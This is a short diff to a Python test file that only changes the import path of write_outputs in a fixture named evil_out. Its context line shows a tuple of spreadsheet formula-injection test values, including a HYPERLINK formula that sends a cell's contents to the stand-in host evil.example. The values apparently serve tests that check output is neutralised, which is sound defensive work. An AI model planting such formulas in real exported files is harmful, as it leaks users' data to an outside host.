@@ -181,7 +181,7 @@ EVIL = ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', "@SUM(1+1)", "+1+1"
 
 @pytest.fixture(scope="module")
 def evil_out(tmp_path_factory):
-    from kg.rdf.graph import write_outputs
+    from kg.build.outputs import write_outputs
     from test_graph import hand_corpus
 
     c = hand_corpus()
